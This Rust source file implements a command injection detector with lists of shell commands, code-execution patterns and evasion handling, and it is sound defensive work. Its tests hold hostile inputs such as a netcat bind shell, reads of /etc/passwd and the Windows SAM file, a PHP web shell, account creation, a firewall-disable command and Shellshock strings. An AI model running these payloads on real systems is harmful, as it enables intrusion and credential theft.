//! OS command injection.
//!
//! Method: the value is first stripped of the shell's own evasions (paired quotes and
//! backslashes inside words: `c'a't`, `w\ho\am\i`; `$IFS`, `${IFS}`, `$@`, brace expansion
//! `{cat,/etc/passwd}` to spaces; a literal `\n` to a newline). Then a command must follow a
//! shell separator (`;`, `|`, `&`, a newline, a backtick or `$(`), optionally behind a
//! directory (`/usr/bin/id`). Commands are two lists: distinctive ones (`whoami`, `uname`,
//! `/bin/sh`...), and common words that are also commands (`cat`, `sleep`, `echo`...), which
//! need an argument-like token (`/x`, `-x`, a number) or the end of the value after them.
//!
//! An injection breaks out of one argument: the text before the separator is a single token
//! (`127.0.0.1; id`). That shape counts at level 1. A separator and command deep in prose or
//! in a code snippet (`Try `git log | head -5``) counts from level 3; a word-command without
//! an argument after a single token from level 3, in prose at level 4. Runs of backticks
//! (Markdown code fences) are not separators. Calls that run commands from code (`system(`,
//! `Runtime.getRuntime().exec(`, `<?php`, SSI `<!--#exec`) and the Shellshock function prefix
//! `() { :;};` count at level 1.
//!
//! A value that is itself a command line (`ls -l /etc/`, `nc -lvvp 4444 -e /bin/sh`: an
//! argument the application hands to a shell whole) counts at level 2 when a known command
//! has an argument-like token after it, at level 3 bare (`netstat`). A value made only of
//! shell metacharacters and quotes (`;`, `|| `, `'"`: a fuzzer's probe) counts at level 2.

use aho_corasick::AhoCorasick;

use super::{words, Hit, Value, L1, L2, L3, L4};

/// Commands no text puts after a shell separator by chance.
pub(crate) const DISTINCT: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "nslookup",
    "netsh",
    "tasklist",
    "taskkill",
    "powershell",
    "pwsh",
    "cmd.exe",
    "cmd",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "nmap",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "base64",
    "printenv",
    "hostname",
    "uptime",
    "chmod",
    "chown",
    "crontab",
    "useradd",
    "certutil",
    "bitsadmin",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "nohup",
    "xterm",
    "xxd",
    "ping",
    "traceroute",
    "tracert",
    "getent",
    "lsof",
    "pwd",
    "id",
    "ls",
    "dir",
    "whois",
    "sudo",
    "passwd",
    "shutdown",
    "reboot",
    "ifup",
    "dig",
    "ps",
    "gcc",
    "tftp",
    "ftp",
    "scp",
    "ssh",
    "openssl",
    "mkfifo",
    "mknod",
    "expr",
    "sysinfo",
    "phpinfo",
];

/// Commands that are also words; after a separator they need an argument-like token.
pub(crate) const WORDY: &[&str] = &[
    "cat", "sleep", "echo", "type", "set", "env", "kill", "rm", "cp", "mv", "touch", "more",
    "less", "head", "tail", "find", "grep", "awk", "sed", "net", "find", "eval", "exec", "sort",
    "timeout", "uniq", "tee", "dd", "tar", "zip", "unzip", "reg", "sc", "who", "w", "time",
];

/// Commands that are never an ordinary value on their own (`sort=name` is ordinary,
/// `host=whoami` is not).
const BARE: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "sysinfo",
    "tasklist",
    "printenv",
    "nslookup",
];

/// Whether a plain value is a distinctive command name on its own (ASCII case-insensitive):
/// the only plain values a command rule reads ([`BARE`] ones from level 2, the rest from 3).
/// The slow twin of the prefilter's lookup.
#[cfg(test)]
pub(crate) fn is_bare_command(raw: &[u8]) -> bool {
    DISTINCT
        .iter()
        .any(|c| c.as_bytes().eq_ignore_ascii_case(raw))
}

/// Commands so distinctive that any word after them makes a command line.
const VERY: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "taskkill",
    "netsh",
    "powershell",
    "wmic",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "mshta",
    "busybox",
    "socat",
    "ncat",
    "useradd",
    "crontab",
    "nslookup",
];

/// Word-commands that are distinctive with their subcommand (Windows `net user`, `reg add`).
const SUBCOMMANDS: &[(&str, &[&str])] = &[
    (
        "net",
        &[
            "user",
            "users",
            "view",
            "localgroup",
            "group",
            "share",
            "use",
            "start",
            "stop",
            "accounts",
            "session",
        ],
    ),
    ("reg", &["add", "query", "delete", "save", "export"]),
    (
        "sc",
        &["query", "create", "config", "start", "stop", "delete"],
    ),
];

/// Code that runs commands, in the languages behind web apps.
pub(crate) const CODE: &[&str] = &[
    "system(",
    "exec(",
    "shell_exec(",
    "passthru(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "phpinfo(",
    "<?php",
    "<?=",
    "runtime.getruntime(",
    "processbuilder(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "child_process",
    "__import__(",
    "require('child_process')",
    "io.popen(",
    "kernel.exec",
    "<!--#exec",
    "eval('",
    "eval(\"",
    "assert('",
    "$_get[",
    "$_post[",
    "$_request[",
    "$_server[",
    "phpversion(",
    "${@",
    "() { :;};",
    "() { :; };",
    "(){:;};",
];

/// Command injection detector.
pub(crate) struct Cmdi {
    code: AhoCorasick,
}

impl Cmdi {
    pub(crate) fn new() -> Cmdi {
        Cmdi { code: words(CODE) }
    }

    pub(crate) fn detect(&self, v: &Value<'_>, level: u8) -> Option<Hit> {
        if let Some(m) = self.code.find(v.lower) {
            return Some(Hit::at("cmdi.code-exec", m.start(), v.norm.len()));
        }
        if let Some(at) = php_complex_call(v.lower) {
            return Some(Hit::at("cmdi.code-exec", at, v.norm.len()));
        }
        let shell = unshell(v.lower);
        if let Some(hit) = whole_value(&shell, v, level) {
            return Some(hit);
        }
        let mut i = 0;
        while let Some((sep_at, cmd_at)) = next_command_start(&shell, i) {
            if let Some(cmd) = command_at(&shell, cmd_at) {
                let prefix = shell.get(..sep_at).unwrap_or_default().trim_ascii();
                // `$(` works anywhere in an argument; other separators end the argument.
                let breakout = !prefix.iter().any(u8::is_ascii_whitespace)
                    || shell.get(sep_at..sep_at + 2) == Some(b"$(");
                let sure = cmd.distinct || cmd.argument;
                let needed = match (sure, breakout) {
                    (true, true) => L1,
                    (true, false) | (false, true) => L3,
                    (false, false) => L4,
                };
                if level >= needed {
                    let rule =
                        if shell.get(sep_at) == Some(&b'$') || shell.get(sep_at) == Some(&b'`') {
                            "cmdi.substitution"
                        } else {
                            "cmdi.separator"
                        };
                    return Some(Hit::at(rule, sep_at.min(v.norm.len()), v.norm.len()));
                }
            }
            i = cmd_at.max(sep_at + 1);
        }
        None
    }
}

/// Where PHP's complex variable syntax calls a function (`{${system(...)}}`), if it does.
fn php_complex_call(lower: &[u8]) -> Option<usize> {
    memchr::memmem::find_iter(lower, b"{${").find(|&at| {
        let rest = lower.get(at + 3..).unwrap_or_default();
        let name = rest
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        name > 0 && rest.get(name) == Some(&b'(')
    })
}

/// The rules on the value as a whole: a fuzzer's metacharacter probe, or a command line.
fn whole_value(shell: &[u8], v: &Value<'_>, level: u8) -> Option<Hit> {
    if is_probe(v.lower) || is_probe(shell) {
        // A lone backtick is Markdown's inline-code mark as often as a probe.
        let needed = if v.lower.trim_ascii() == b"`" { L3 } else { L2 };
        return (level >= needed).then(|| Hit::whole("cmdi.metachar-probe", v));
    }
    let trimmed = trim_shell(shell);
    if trimmed.contains(&b'\n') {
        return None; // a command line is one line; text with lines is prose or a file
    }
    let start = trimmed
        .iter()
        .position(|b| !matches!(b, b' ' | b'(' | b'\'' | b'"'))
        .unwrap_or(0);
    let cmd = command_at(trimmed, start).or_else(|| {
        // `which <tool>`: probing for what to run.
        trimmed
            .get(start..)?
            .starts_with(b"which ")
            .then_some(Command {
                distinct: false,
                argument: true,
                followed: true,
            })
    })?;
    let word_len = trimmed[start..]
        .iter()
        .take_while(|b| !b.is_ascii_whitespace())
        .count();
    if trimmed
        .get(start + word_len)
        .is_some_and(|b| !b.is_ascii_whitespace())
    {
        return None; // "id,name": the command word must end at a space or the end
    }
    // Prose starts with words that are commands too ("Set `X` and run..."): a command line's
    // argument is an option, a path, a number, a URL or a drive, not a quote or a separator.
    let arg = trimmed
        .get(start + word_len..)
        .unwrap_or_default()
        .trim_ascii_start();
    let word = &trimmed[start..start + word_len];
    let base = word.rsplit(|b| *b == b'/').next().unwrap_or(word);
    let numeric = matches!(base, b"sleep" | b"timeout" | b"ping")
        && arg.first().is_some_and(u8::is_ascii_digit);
    let strict = numeric
        || matches!(arg.first(), Some(b'/' | b'-' | b'\\' | b'~' | b'%'))
        || (argument_like(arg)
            && !matches!(
                arg.first(),
                Some(b'`' | b'$' | b'>' | b'<' | b';' | b'|' | b'&' | b'.' | b'0'..=b'9')
            ));
    let one_token = arg
        .split(|b| b.is_ascii_whitespace())
        .filter(|t| !t.is_empty())
        .count()
        == 1;
    let looks_up_tool =
        base == b"which" && one_token && DISTINCT.iter().any(|c| c.as_bytes() == arg);
    let very = VERY.iter().any(|c| c.as_bytes() == base);
    let needed = match (
        cmd.followed,
        (cmd.argument && (cmd.distinct || strict)) || very || looks_up_tool,
        cmd.distinct,
    ) {
        (true, true, _) => L2,
        (false, _, true) if BARE.iter().any(|c| c.as_bytes() == base) => L2,
        (false, _, true) => L3,
        _ => return None,
    };
    (level >= needed).then(|| Hit::whole("cmdi.command-line", v))
}

/// `s` without the whitespace and quotes around it.
fn trim_shell(s: &[u8]) -> &[u8] {
    let edge = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'\'' | b'"');
    let start = s.iter().position(|b| !edge(b)).unwrap_or(s.len());
    let end = s.iter().rposition(|b| !edge(b)).map_or(start, |e| e + 1);
    s.get(start..end).unwrap_or_default()
}

/// Whether `s` is a short run of shell metacharacters, quotes and line breaks only.
fn is_probe(s: &[u8]) -> bool {
    let meta = |b: &u8| matches!(b, b';' | b'|' | b'&' | b'`' | b'\'' | b'"' | b'\n' | b'\r');
    s.len() <= 6 && s.iter().any(meta) && s.iter().all(|b| meta(b) || *b == b' ')
}

/// A known command found at some offset.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Command {
    /// A distinctive command (`whoami`), not a word that is also a command (`cat`).
    distinct: bool,
    /// An argument-like token follows (`/x`, `-x`, a number, a URL, a drive, a subcommand),
    /// or nothing does.
    argument: bool,
    /// Something follows on the line.
    followed: bool,
}

/// `lower` without the quoting and field-splitting tricks shells ignore: quotes and
/// backslashes dropped, `$IFS`, `${IFS}`, `$IFS$9`, `$@`, `$9` and brace expansion to spaces.
fn unshell(lower: &[u8]) -> Vec<u8> {
    // `\r` and `\n` are line breaks to a shell's echo -e, but path separators before a name in
    // a Windows path (`c:\windows\repair`).
    let windows_path = memchr::memmem::find(lower, b":\\").is_some()
        || memchr::memmem::find(lower, b"%\\").is_some();
    let mut out = Vec::with_capacity(lower.len());
    let mut in_brace = false;
    let mut i = 0;
    while let Some(&b) = lower.get(i) {
        let rest = lower.get(i..).unwrap_or_default();
        if rest.starts_with(b"${ifs}") {
            out.push(b' ');
            i += 6;
        } else if rest.starts_with(b"$ifs") {
            out.push(b' ');
            i += 4;
        } else if b == b'$' && matches!(rest.get(1), Some(b'@' | b'0'..=b'9')) {
            i += 2;
        } else if b == b'\\' && matches!(rest.get(1), Some(b'n' | b'r')) && !windows_path {
            out.push(b'\n');
            i += 2;
        } else if b == b'\\' || (matches!(b, b'\'' | b'"') && paired_in_word(lower, i)) {
            i += 1;
        } else if b == b'{' || b == b'}' || (b == b',' && in_brace) {
            in_brace = b == b'{' || (in_brace && b == b',');
            out.push(b' ');
            i += 1;
        } else {
            out.push(b);
            i += 1;
        }
    }
    out
}

/// Whether the quote at `s[at]` is one of an even number (two or more) of quotes inside the
/// word around it: `c'a't` and `w"h"o"am"i` hide a command, the `'` of `I'd` does not.
fn paired_in_word(s: &[u8], at: usize) -> bool {
    let is_break = |b: &u8| {
        b.is_ascii_whitespace()
            || matches!(b, b';' | b'|' | b'&' | b'`' | b'(' | b')' | b'<' | b'>')
    };
    let start = s[..at].iter().rposition(is_break).map_or(0, |p| p + 1);
    let end = s[at..]
        .iter()
        .position(is_break)
        .map_or(s.len(), |p| at + p);
    let quotes = s[start..end]
        .iter()
        .filter(|b| matches!(b, b'\'' | b'"'))
        .count();
    quotes >= 2 && quotes % 2 == 0
}

/// The next shell separator at or after `from` and where the command after it starts.
fn next_command_start(s: &[u8], from: usize) -> Option<(usize, usize)> {
    let mut sep = from
        + s.get(from..)?
            .iter()
            .position(|b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$'))?;
    // A Markdown code fence (two or more backticks) is not a substitution.
    while s.get(sep) == Some(&b'`')
        && (s.get(sep + 1) == Some(&b'`') || (sep > 0 && s.get(sep - 1) == Some(&b'`')))
    {
        sep += 1 + s
            .get(sep + 1..)?
            .iter()
            .position(|b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$'))?;
    }
    let mut at = sep + 1;
    if s.get(sep) == Some(&b'$') {
        if s.get(at) != Some(&b'(') {
            return Some((sep, at));
        }
        at += 1;
    }
    while s
        .get(at)
        .is_some_and(|b| matches!(b, b' ' | b'\t' | b'|' | b'&' | b'\n' | b'\r' | b'(' | b'{'))
    {
        at += 1;
    }
    Some((sep, at))
}

/// The known command starting at `s[at..]`, behind an optional directory (`/usr/bin/id`).
fn command_at(s: &[u8], at: usize) -> Option<Command> {
    let rest = s.get(at..)?;
    let word_len = rest
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-'))
        .count();
    let word = rest.get(..word_len)?;
    let base = word.rsplit(|b| *b == b'/').next().unwrap_or(word);
    let after = rest.get(word_len..).unwrap_or_default();
    if base.is_empty() || after.first().is_some_and(u8::is_ascii_alphanumeric) {
        return None;
    }
    let is = |list: &[&str]| list.iter().any(|c| c.as_bytes() == base);
    let arg = after.trim_ascii_start();
    let line_end = arg.first().is_none_or(|b| matches!(b, b'\n' | b'\r'));
    let next_word = arg
        .split(|b| !b.is_ascii_alphabetic())
        .next()
        .unwrap_or_default();
    let subcommand = SUBCOMMANDS
        .iter()
        .any(|(c, subs)| c.as_bytes() == base && subs.iter().any(|s| s.as_bytes() == next_word));
    let distinct = is(DISTINCT) || subcommand;
    if !distinct && !is(WORDY) {
        return None;
    }
    Some(Command {
        distinct,
        argument: line_end || subcommand || argument_like(arg),
        followed: !line_end,
    })
}

/// Whether `arg` starts like a command argument: an option, a path, a number, a redirection
/// or another separator, a URL or a drive (`c:`).
fn argument_like(arg: &[u8]) -> bool {
    let token = arg
        .split(|b| b.is_ascii_whitespace())
        .next()
        .unwrap_or_default();
    matches!(
        arg.first(),
        Some(
            b'/' | b'\\'
                | b'-'
                | b'.'
                | b'~'
                | b'$'
                | b'%'
                | b'>'
                | b'<'
                | b';'
                | b'|'
                | b'&'
                | b'`'
                | b'0'..=b'9'
        )
    ) || memchr::memmem::find(token, b"://").is_some()
        || (token.len() >= 2 && token.get(1) == Some(&b':'))
}

#[cfg(test)]
mod tests {
    use super::super::test_util::rule_of;
    use super::super::L1;
    use super::*;

    fn rule(raw: &str, level: u8) -> Option<&'static str> {
        let c = Cmdi::new();
        rule_of(raw, "host", level, |v, l| c.detect(v, l))
    }

    #[test]
    fn separators_and_substitution() {
        let cases = [
            ("; id", "cmdi.separator"),
            ("127.0.0.1 | whoami", "cmdi.separator"),
            ("a && cat /etc/passwd", "cmdi.separator"),
            ("x%0Aid", "cmdi.separator"),
            ("`whoami`", "cmdi.substitution"),
            ("$(uname -a)", "cmdi.substitution"),
            (";/usr/bin/id;", "cmdi.separator"),
            ("; sleep 5", "cmdi.separator"),
            ("|ping -n 21 127.0.0.1", "cmdi.separator"),
            ("& dir c:\\", "cmdi.separator"),
        ];
        for (attack, want) in cases {
            assert_eq!(rule(attack, L1), Some(want), "{attack}");
        }
    }

    #[test]
    fn shell_evasions() {
        for attack in [
            "\\nid\\n",
            "\\n/bin/ls -al\\n",
            ";c'a't /etc/passwd",
            ";w\\ho\\am\\i",
            ";cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            ";{cat,/etc/passwd}",
            "|w\"h\"o\"am\"i",
            ";$@whoami",
        ] {
            assert_eq!(rule(attack, L1), Some("cmdi.separator"), "{attack}");
        }
    }

    #[test]
    fn code_execution() {
        for attack in [
            "system('whoami')",
            "<?php system($_GET['c']); ?>",
            "Runtime.getRuntime().exec(\"id\")",
            "__import__('os').popen('id')",
        ] {
            assert_eq!(rule(attack, L1), Some("cmdi.code-exec"), "{attack}");
        }
    }

    #[test]
    fn command_lines_probes_and_shellshock() {
        let cases = [
            ("ls -l /etc/", L2, "cmdi.command-line"),
            ("nc -lvvp 4444 -e /bin/sh", L2, "cmdi.command-line"),
            ("curl https://x.example/rce.txt", L2, "cmdi.command-line"),
            ("dir C:\\Users", L2, "cmdi.command-line"),
            ("net user hacker Password1 /ADD", L2, "cmdi.command-line"),
            ("\\'/bin/cat /etc/passwd\\'", L2, "cmdi.command-line"),
            ("netstat", L2, "cmdi.command-line"),
            ("uptime", L3, "cmdi.command-line"),
            ("\"\\n/bin/ls -al\\n\"", L2, "cmdi.command-line"),
            ("type %SYSTEMROOT%\\repair\\SAM", L2, "cmdi.command-line"),
            ("{${sleep(20)}}", L1, "cmdi.code-exec"),
            (" {${sleep(hexdec(dechex(20)))}} ", L1, "cmdi.code-exec"),
            ("|| ", L2, "cmdi.metachar-probe"),
            ("'\"", L2, "cmdi.metachar-probe"),
            ("%0a%0d", L2, "cmdi.metachar-probe"),
            ("`", L3, "cmdi.metachar-probe"),
            ("'", L2, "cmdi.metachar-probe"),
            ("netsh firewall set opmode disable", L2, "cmdi.command-line"),
            ("which nc", L2, "cmdi.command-line"),
            ("type C:\\Windows\\repair\\SAM", L2, "cmdi.command-line"),
            ("sleep 10", L2, "cmdi.command-line"),
            ("() { :;}; /bin/bash -c \"sleep 1\"", L1, "cmdi.code-exec"),
            ("eval('whoami')", L1, "cmdi.code-exec"),
            ("; net view", L1, "cmdi.separator"),
        ];
        for (attack, level, want) in cases {
            assert_eq!(rule(attack, level), Some(want), "{attack}");
        }
        for benign in [
            "route",
            "id",
            "sort by date",
            "ls",
            "-",
            "cat lovers unite",
            "`",
            "id,name,note\n1,x,y",
            "ping me at 5",
            "Set `NODE_ENV=production` and run `npm run build`.",
            "SET 8 -MINI AS",
            "Type 2 diabetes",
            "which python version do I need",
        ] {
            assert_eq!(rule(benign, L2), None, "{benign}");
        }
    }

    #[test]
    fn wordy_commands_need_arguments_at_level_1() {
        assert_eq!(rule("apples; cat lovers", L1), None);
        assert_eq!(rule("apples; cat lovers", L3), Some("cmdi.separator"));
        assert_eq!(rule("; cat /etc/hosts", L1), Some("cmdi.separator"));
    }

    #[test]
    fn tricky_benign() {
        for benign in [
            "Tom & Jerry",
            "A & W Root Beer",
            "salt; pepper; thyme",
            "black | white",
            "price: $5 & up",
            "R&D department",
            "fish & chips; peas",
            "items=1&page=2",
            "Between you and me.\nI'd like to update my address",
            "```python\nprint(1)\n```",
            "Try `git log --oneline | head -5` to see recent commits.",
            "BASE; SET SWAROVSKI",
        ] {
            assert_eq!(rule(benign, L1), None, "{benign}");
        }
    }
}
